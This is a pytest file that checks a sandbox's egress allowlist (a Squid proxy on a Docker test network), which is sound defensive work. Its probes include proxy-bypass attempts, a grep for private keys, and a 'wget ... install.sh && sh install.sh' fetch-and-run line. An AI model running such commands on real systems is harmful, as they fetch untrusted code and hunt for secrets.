"""The network allowlist on the real engine: only allowed names, methods and ports get out.

The "outside" is a network these tests make, with busybox web servers under made-up names;
nothing here talks to any address the tests did not start.
"""

from __future__ import annotations

import contextlib
import socket
import threading
from pathlib import Path
from typing import Any

import pytest

from chatops.core.errors import AgentFailed, SandboxError, TaskCancelled
from chatops.core.network import NetworkPolicy
from chatops.core.ports import Phase
from sandbox.docker_runner import DockerSandbox
from sandbox.egress import parse_denials, squid_config
from sandbox.naming import RunNames
from tests.egress_rig import SECURE_BODY, Outside
from tests.sandbox.helpers import Recorder, environment, run

pytestmark = pytest.mark.docker

@pytest.fixture
def egress_sandbox(docker_client: Any, instance: str, outside: Outside) -> DockerSandbox:
    return DockerSandbox(docker_client, instance=instance, egress_network=outside.network)


POLICY = NetworkPolicy(mode="allowlist", allow=("allowed.test", "*.wild.test"))

PROBES = """
proxy=${http_proxy#http://}
try() {
    name=$1; shift
    if "$@" > /tmp/out 2>/tmp/err; then echo "$name ok $(head -c 60 /tmp/out)"
    else echo "$name refused"; fi >> results.txt
}
# A request written by hand to the proxy; prints the answer on one line.
ask() {
    printf "$1"'\\r\\n\\r\\n' | nc -w 2 "${proxy%:*}" "${proxy#*:}" | tr -d '\\r' | tr '\\n' ' '
}
try allowed wget -q -O - http://allowed.test/
try wildcard wget -q -O - http://api.wild.test/
try other_host wget -q -O - http://blocked.test/
try raw_ip wget -q -O - "http://$BLOCKED_IP/"
try raw_ip_direct wget -Y off -q -T 3 -O - "http://$BLOCKED_IP/"
try name_direct wget -Y off -q -T 3 -O - http://allowed.test/
try dns nslookup allowed.test
try dns_direct nslookup allowed.test "$ALLOWED_IP"
try other_port wget -q -O - http://allowed.test:8080/
echo "manager $(ask 'GET cache_object://allowed.test/info HTTP/1.0')" >> results.txt
echo "ftp $(ask 'GET ftp://allowed.test/file HTTP/1.0')" >> results.txt
# The host: the address it would have on this network, and on the outbound one.
me=$(ip -4 -o addr show eth0 | awk '{print $4}' | cut -d/ -f1)
try dns_host nslookup allowed.test "${me%.*}.1"
for gw in "${me%.*}.1" "$OUTSIDE_GATEWAY"; do
    echo "knock from the agent" | nc -w 2 "$gw" "$HOST_PORT" 2>/dev/null || true
done
post='POST http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\nContent-Length: 0'
echo "post $(ask "$post")" >> results.txt
# Plain HTTP inside a tunnel: only TLS may pass, and only to port 443 of an allowed name.
inside='\\r\\n\\r\\nGET / HTTP/1.0\\r\\nHost: x'
echo "tunnel_allowed $(ask "CONNECT allowed.test:443 HTTP/1.1$inside")" >> results.txt
echo "tunnel_port $(ask "CONNECT allowed.test:22 HTTP/1.1$inside")" >> results.txt
echo "tunnel_other $(ask "CONNECT blocked.test:443 HTTP/1.1$inside")" >> results.txt
"""


class HostListener:
    """A TCP server on every address of the machine running the tests, keeping what it gets."""

    def __init__(self) -> None:
        # Every address on purpose: the test is that the agent reaches none of them.
        self.server = socket.create_server(("0.0.0.0", 0))  # noqa: S104
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.received: list[bytes] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)

    def __enter__(self) -> HostListener:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join()
        self.server.close()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                connection, _ = self.server.accept()
            except TimeoutError:
                continue
            with connection:
                connection.settimeout(2)
                with contextlib.suppress(OSError):
                    self.received.append(connection.recv(1024))


def _results(workspace: Path) -> dict[str, str]:
    lines = (workspace / "results.txt").read_text().splitlines()
    return {name: rest for name, _, rest in (line.partition(" ") for line in lines)}


def test_only_allowed_names_methods_and_ports_get_out_and_refusals_are_recorded(
    egress_sandbox: DockerSandbox, sandbox_image: str, task_id: str, workspace: Path,
    outside: Outside, docker_client: Any,
) -> None:
    with HostListener() as host:
        # The control: a container on the outbound network does reach the listener.
        docker_client.containers.run(
            sandbox_image, ["sh", "-c", f"echo control | nc -w 2 {outside.gateway} {host.port}"],
            network=outside.network, remove=True)
        env = environment(sandbox_image, network=POLICY, env={
            "BLOCKED_IP": outside.addresses["blocked"],
            "ALLOWED_IP": outside.addresses["allowed"],
            "OUTSIDE_GATEWAY": outside.gateway, "HOST_PORT": str(host.port)})
        events = Recorder()
        run(egress_sandbox, task_id, workspace, env, PROBES, events, attempt=2)
    assert host.received == [b"control\n"]  # and nothing from the agent
    results = _results(workspace)

    assert results["allowed"] == "ok body of allowed"
    assert results["wildcard"] == "ok body of wild"
    for refused in ("other_host", "raw_ip", "raw_ip_direct", "name_direct", "dns",
                    "dns_direct", "dns_host", "other_port"):
        assert results[refused] == "refused", refused
    for refused in ("manager", "ftp"):
        assert results[refused].startswith("HTTP/1.1 403 Forbidden"), refused
    assert results["post"].startswith("HTTP/1.1 403")
    for tunnel in ("tunnel_allowed", "tunnel_port", "tunnel_other"):
        # The proxy answers (a denied tunnel is opened to show its error in TLS); the plain
        # request inside never reaches the server.
        assert results[tunnel].startswith("HTTP/1.1 "), tunnel
        assert "body of" not in results[tunnel], tunnel

    refused = [(r.method, r.host, r.reason, r.attempt) for r in events.refused]
    assert refused == [
        ("GET", "blocked.test", "host", 2),
        ("GET", outside.addresses["blocked"], "host", 2),
        ("GET", "allowed.test", "port", 2),
        ("GET", "allowed.test", "scheme", 2),
        ("GET", "allowed.test", "scheme", 2),
        ("POST", "allowed.test", "method", 2),
        ("CONNECT", "allowed.test", "port", 2),
        ("CONNECT", "blocked.test", "host", 2),
    ]
    assert events.refused[0].url == "http://blocked.test/"
    assert "network: blocked" not in events.text()  # the sandbox reports; the service logs


def test_refusals_are_reported_when_the_agent_fails(
    egress_sandbox: DockerSandbox, sandbox_image: str, task_id: str, workspace: Path,
) -> None:
    env = environment(sandbox_image, network=POLICY)
    events = Recorder()
    with pytest.raises(AgentFailed):
        run(egress_sandbox, task_id, workspace, env,
            "wget -q -O install.sh http://blocked.test/install.sh && sh install.sh", events)
    assert [(r.method, r.url) for r in events.refused] == [
        ("GET", "http://blocked.test/install.sh")]


def test_an_allowed_name_that_resolves_to_loopback_is_refused(
    egress_sandbox: DockerSandbox, sandbox_image: str, task_id: str, workspace: Path,
) -> None:
    policy = NetworkPolicy(mode="allowlist", allow=("localhost",))
    events = Recorder()
    run(egress_sandbox, task_id, workspace, environment(sandbox_image, network=policy),
        "wget -q -O - http://localhost/ > got.txt || echo refused > got.txt", events)
    assert (workspace / "got.txt").read_text() == "refused\n"
    assert [(r.host, r.reason) for r in events.refused] == [("localhost", "address")]


def test_squid_config_serves_the_agent_only_and_refuses_in_reason_order() -> None:
    policy = NetworkPolicy(mode="allowlist",
                           allow=("pypi.org", "*.github.com", "api.github.com", "github.com"))
    config = squid_config(policy, "10.9.0.0/16").splitlines()
    # squid refuses a list in which one entry covers another: *.github.com covers the rest.
    assert "acl allowed_hosts dstdomain -n .github.com pypi.org" in config
    assert "acl allowed_methods method GET HEAD" in config
    assert "acl agent src 10.9.0.0/16" in config
    assert "access_log stdio:/dev/stdout logformat=chatops agent" in config
    rules = [line for line in config if line.startswith("http_access")]
    assert rules == [
        "http_access deny !agent",
        "http_access deny !allowed_hosts",
        "http_access deny tunnel !tls_port",
        "http_access deny !tunnel !web",
        "http_access deny manager",
        "http_access deny !tunnel !web_ports",
        "http_access deny !tunnel !allowed_methods",
        "http_access deny no_go",
        "http_access allow all",
    ]


def test_parse_denials_reads_refusals_only_and_redacts_what_it_keeps() -> None:
    log = "\n".join([
        "1763780000.250 GET http://pypi.org/simple/ 200 TCP_MISS",
        "1763780001.500 GET http://evil.test/?key=s3cret 403 TCP_DENIED",
        "1763780002.000 CONNECT pypi.org:8443 403 TCP_DENIED",
        # A denied tunnel squid opened to show its error page in TLS.
        "1763780003.000 CONNECT [::1]:443 200 TCP_DENIED_ABORTED",
        "1763780004.000 GET http://s3cret.evil.test/ 403 TCP_DENIED",
        "1763780005.000 GET http://pypi.org:8080/ 403 TCP_DENIED",
        "1763780006.000 GET cache_object://pypi.org/info 403 TCP_DENIED",
        "1763780007.000 GET http://<!channel>x.test/ 403 TCP_DENIED",
        "1763780008.000 - error:transaction-end-before-headers 0 NONE_NONE",
        "garbage line",
        "notatime GET http://x.test/ 403 TCP_DENIED",
    ])
    policy = NetworkPolicy(mode="allowlist", allow=("pypi.org",))
    denied = parse_denials(log, policy, attempt=0,
                           redact=lambda text: text.replace("s3cret", "***"))
    assert [(d.method, d.host, d.reason, d.url) for d in denied] == [
        ("GET", "evil.test", "host", "http://evil.test/?key=***"),
        ("CONNECT", "pypi.org", "port", "pypi.org:8443"),
        ("CONNECT", "::1", "host", "[::1]:443"),
        ("GET", "???.evil.test", "host", "http://***.evil.test/"),
        ("GET", "pypi.org", "port", "http://pypi.org:8080/"),
        ("GET", "pypi.org", "scheme", "cache_object://pypi.org/info"),
        ("GET", "??channel?x.test", "host", "http://<!channel>x.test/"),
    ]
    assert denied[0].at.timestamp() == pytest.approx(1763780001.5)


def test_a_missing_outbound_network_fails_before_setup_with_the_setting_to_fix(
    docker_client: Any, instance: str, sandbox_image: str, task_id: str, workspace: Path,
) -> None:
    sandbox = DockerSandbox(docker_client, instance=instance,
                            egress_network=f"chatops-missing-{task_id}")
    events = Recorder()
    with pytest.raises(SandboxError) as failed:
        run(sandbox, task_id, workspace, environment(sandbox_image, network=POLICY,
                                                     setup="echo setup ran"), "true", events)
    assert "does not exist" in failed.value.message
    assert "CHATOPS_EGRESS_NETWORK" in failed.value.hint
    assert "setup ran" not in events.text()


TLS_PROBES = """
proxy=${http_proxy#http://}
# openssl finds the task's authority through $SSL_CERT_FILE, as other tools do.
tls() {
    printf "$1"'\\r\\n\\r\\n' | openssl s_client -quiet -proxy "$proxy" -connect "$2:443" \\
        -servername "$2" -verify_return_error -verify_hostname "$2" 2>> tls-errors.txt
}
tls 'GET /hello.txt HTTP/1.0\\r\\nHost: secure.test' secure.test > get.txt
tls 'POST /hello.txt HTTP/1.0\\r\\nHost: secure.test\\r\\nContent-Length: 0' secure.test > post.txt
tls 'GET / HTTP/1.0\\r\\nHost: blocked.test' blocked.test > other.txt
openssl s_client -proxy "$proxy" -connect secure.test:443 -servername secure.test \\
    < /dev/null 2>/dev/null | openssl x509 -noout -issuer > issuer.txt
# The authority's certificate is here; its key must be nowhere the agent can look.
{ env; cat /chatops/* 2>/dev/null; } | grep -c "PRIVATE[ ]KEY" > key-seen.txt || true
grep -c "BEGIN[ ]CERTIFICATE" /chatops/egress-ca.pem > certificate-seen.txt
"""


def test_https_is_opened_so_methods_hold_there_too(
    docker_client: Any, instance: str, tls_image: str, task_id: str, workspace: Path,
    outside: Outside,
) -> None:
    sandbox = DockerSandbox(docker_client, instance=instance, egress_network=outside.network,
                            egress_ca=outside.origin_ca)
    policy = NetworkPolicy(mode="allowlist", allow=("secure.test",))
    events = Recorder()
    run(sandbox, task_id, workspace, environment(tls_image, network=policy), TLS_PROBES, events)

    assert SECURE_BODY in (workspace / "get.txt").read_text()
    post = (workspace / "post.txt").read_text()
    assert post.startswith("HTTP/1.1 403") and SECURE_BODY not in post
    assert "body of" not in (workspace / "other.txt").read_text()
    # What the agent is shown is minted by this task's authority, for the name it asked for.
    assert f"CN = chatops egress {task_id}" in (workspace / "issuer.txt").read_text()
    assert (workspace / "key-seen.txt").read_text().strip() == "0"
    assert (workspace / "certificate-seen.txt").read_text().strip() == "1"  # the search works
    assert [(r.method, r.url, r.reason) for r in events.refused] == [
        ("POST", "https://secure.test/hello.txt", "method"),
        ("CONNECT", "blocked.test:443", "host"),
    ]


def test_the_proxy_refuses_an_origin_whose_certificate_it_cannot_verify(
    egress_sandbox: DockerSandbox, tls_image: str, task_id: str, workspace: Path,
) -> None:
    # egress_sandbox does not trust the test authority that signed secure.test.
    policy = NetworkPolicy(mode="allowlist", allow=("secure.test",))
    run(egress_sandbox, task_id, workspace, environment(tls_image, network=policy),
        TLS_PROBES)
    get = (workspace / "get.txt").read_text()
    assert SECURE_BODY not in get
    assert get.startswith("HTTP/1.1 503")


def test_refusals_are_reported_while_the_agent_runs_and_once_each(
    egress_sandbox: DockerSandbox, sandbox_image: str, task_id: str, workspace: Path,
) -> None:
    # The agent never ends by itself: only a refusal reported while it runs can cancel it.
    # The task_id fixture then checks that the proxy, its network and volume went with it.
    events = Recorder(cancel_when=lambda r: bool(r.refused))
    env = environment(sandbox_image, network=POLICY, timeout=60)
    with pytest.raises(TaskCancelled, match="agent phase"):
        run(egress_sandbox, task_id, workspace, env,
            "wget -q http://blocked.test/ || sleep 1000", events)
    assert [(r.method, r.host) for r in events.refused] == [("GET", "blocked.test")]


def test_the_proxy_serves_only_its_agent_and_logs_only_its_requests(
    egress_sandbox: DockerSandbox, sandbox_image: str, task_id: str, workspace: Path,
    instance: str, outside: Outside, docker_client: Any,
) -> None:
    answers: list[str] = []

    def neighbour_tries_the_proxy(phase: Phase, text: str) -> None:
        if "agent ready" not in text or answers:
            return
        proxy = docker_client.containers.get(RunNames(task_id, instance).container("proxy"))
        address = proxy.attrs["NetworkSettings"]["Networks"][outside.network]["IPAddress"]
        output = docker_client.containers.run(
            sandbox_image, ["sh", "-c", "wget -q -O - http://allowed.test/ 2>&1; "
                                        "wget -q -O - http://planted.test/ 2>&1; true"],
            environment={"http_proxy": f"http://{address}:3128"}, network=outside.network,
            remove=True)
        answers.append(output.decode())

    events = Recorder(on_log=neighbour_tries_the_proxy)
    run(egress_sandbox, task_id, workspace, environment(sandbox_image, network=POLICY),
        "echo agent ready; sleep 3", events)
    [answer] = answers
    assert answer.count("403 Forbidden") == 2 and "body of" not in answer
    assert events.refused == []  # nothing planted in this task's result
